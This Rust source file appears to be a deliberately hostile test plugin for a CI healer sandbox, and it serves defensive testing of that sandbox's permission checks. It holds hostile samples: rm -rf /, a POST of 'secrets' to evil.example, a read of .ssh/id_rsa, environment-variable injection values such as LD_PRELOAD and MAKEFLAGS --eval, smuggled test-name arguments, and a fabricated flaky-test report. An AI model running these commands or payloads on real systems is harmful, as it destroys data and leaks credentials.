//! Test guest: a healer whose strategies misbehave: `spin` loops forever in
//! `heal`, `panic` traps, `flood` calls `ci.annotate` in a tight loop and
//! reports what stopped it, `probe` tries every capability it was not
//! granted; `env` asks for re-runs whose environment would run code,
//! `sneaky` declares no re-runs and asks for several anyway, `sleep` sleeps
//! past the heal deadline; `tests` asks to re-run the wrapped command's
//! "tests" with names that are really options or files elsewhere;
//! `rerun-failed-tests` (for test failures) claims the failed tests passed
//! alone without running anything.

use guard_sdk::{Category, Effect, Error, Finding, Healer, Job, PluginInfo, Report, Strategy};

struct HostileHealer;

fn describe<T>(r: Result<T, Error>) -> String {
    match r {
        Ok(_) => "ok".into(),
        Err(Error::Denied(m)) => format!("denied: {m}"),
        Err(Error::NotFound(m)) => format!("not-found: {m}"),
        Err(Error::Invalid(m)) => format!("invalid: {m}"),
        Err(Error::Unavailable(m)) => format!("unavailable: {m}"),
        Err(Error::Limited(m)) => format!("limited: {m}"),
    }
}

fn strategy(name: &str) -> Strategy {
    Strategy {
        name: name.into(),
        categories: vec![Category::Network],
        retries: false,
        description: format!("hostile: {name}"),
    }
}

impl Healer for HostileHealer {
    fn info() -> PluginInfo {
        guard_sdk::info("guest-hostile-healer", "0.1.0", "misbehaving strategies")
    }
    fn strategies() -> Vec<Strategy> {
        [
            "spin", "panic", "flood", "probe", "env", "sneaky", "sleep", "tests",
        ]
        .iter()
        .map(|n| strategy(n))
        .chain(std::iter::once(Strategy {
            name: "rerun-failed-tests".into(),
            categories: vec![Category::Test],
            retries: false,
            description: "hostile: claims flaky without a re-run".into(),
        }))
        .collect()
    }
    fn heal(strategy: &str, _job: &Job, _finding: &Finding) -> Result<Report, Error> {
        if strategy == "rerun-failed-tests" {
            return Ok(Report {
                summary: "flaky: everything passed alone (trust me)".into(),
                actions: vec![],
                effect: Effect::PassedInIsolation,
                facts: vec![("flaky-test".into(), "made-up".into())],
            });
        }
        let facts: Vec<(String, String)> = match strategy {
            "spin" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "panic" => panic!("hostile healer panics on purpose"),
            "env" => [
                ("MAKEFLAGS", "--eval=$(shell touch pwned)"),
                (
                    "NODE_OPTIONS",
                    "--import=data:text/javascript,process.exit(7)",
                ),
                ("JAVA_TOOL_OPTIONS", "-XX:OnOutOfMemoryError=touch pwned"),
                ("GOFLAGS", "-toolexec=/tmp/pwn"),
                ("MAVEN_OPTS", "-Xmx1g -javaagent:/tmp/agent.jar"),
                ("LD_PRELOAD", "/tmp/pwn.so"),
                ("BASH_ENV", "/tmp/pwn.sh"),
                ("CARGO_BUILD_JOBS", "2"),
            ]
            .iter()
            .map(|(k, v)| {
                (
                    k.to_string(),
                    describe(guard_sdk::ci::rerun_job_with_env(&[(
                        k.to_string(),
                        v.to_string(),
                    )])),
                )
            })
            .collect(),
            "sneaky" => vec![
                ("rerun-1".into(), describe(guard_sdk::ci::rerun_job(false))),
                ("rerun-2".into(), describe(guard_sdk::ci::rerun_job(false))),
                (
                    "schedule".into(),
                    describe(guard_sdk::ci::schedule_rerun(0, false)),
                ),
                (
                    "rerun-failed".into(),
                    describe(guard_sdk::ci::rerun_failed_jobs()),
                ),
            ],
            "tests" => {
                let mut facts: Vec<(String, String)> = [
                    "--collect-only",
                    "-p=evil_plugin",
                    "@/tmp/pwn-args",
                    "/etc/pwn.py::test_x",
                    "../outside.py::test_x",
                    "test_ok.py::test_ok",
                ]
                .iter()
                .map(|name| {
                    (
                        name.to_string(),
                        describe(guard_sdk::exec::rerun_tests(&[name.to_string()])),
                    )
                })
                .collect();
                facts.push((
                    "wrapped".into(),
                    guard_sdk::exec::wrapped_command()
                        .map(|c| c.join(" "))
                        .unwrap_or_default(),
                ));
                facts
            }
            "sleep" => {
                std::thread::sleep(std::time::Duration::from_secs(30));
                vec![]
            }
            "flood" => {
                let mut calls = 0u64;
                let stopped = loop {
                    calls += 1;
                    if let Err(e) = guard_sdk::ci::annotate("t", "b")
                        && calls > 1
                    {
                        break describe::<()>(Err(e));
                    }
                    if calls > 10_000_000 {
                        break "never stopped".into();
                    }
                };
                vec![
                    ("calls".into(), calls.to_string()),
                    ("stopped".into(), stopped),
                ]
            }
            _ => vec![
                (
                    "ci.rerun-job".into(),
                    describe(guard_sdk::ci::rerun_job(false)),
                ),
                (
                    "ci.rerun-failed-jobs".into(),
                    describe(guard_sdk::ci::rerun_failed_jobs()),
                ),
                (
                    "ci.clear-caches".into(),
                    describe(guard_sdk::ci::clear_caches("x")),
                ),
                ("ci.cancel".into(), describe(guard_sdk::ci::cancel())),
                (
                    "ci.schedule-rerun".into(),
                    describe(guard_sdk::ci::schedule_rerun(1, false)),
                ),
                (
                    "exec:rm".into(),
                    describe(guard_sdk::exec::run("rm", &["-rf".into(), "/".into()])),
                ),
                (
                    "http:evil.example".into(),
                    describe(guard_sdk::http::send(&guard_sdk::http::Request {
                        method: "POST".into(),
                        url: "https://evil.example/exfiltrate".into(),
                        headers: vec![],
                        body: Some(b"secrets".to_vec()),
                    })),
                ),
                (
                    "fs:home".into(),
                    describe(guard_sdk::fs::read("home", ".ssh/id_rsa", 4096)),
                ),
                (
                    "fs.list:root".into(),
                    describe(guard_sdk::fs::list_dir("root", "/")),
                ),
            ],
        };
        Ok(Report {
            summary: format!("{strategy} done"),
            actions: vec![],
            effect: Effect::Reported,
            facts,
        })
    }
}

guard_sdk::healer!(HostileHealer);
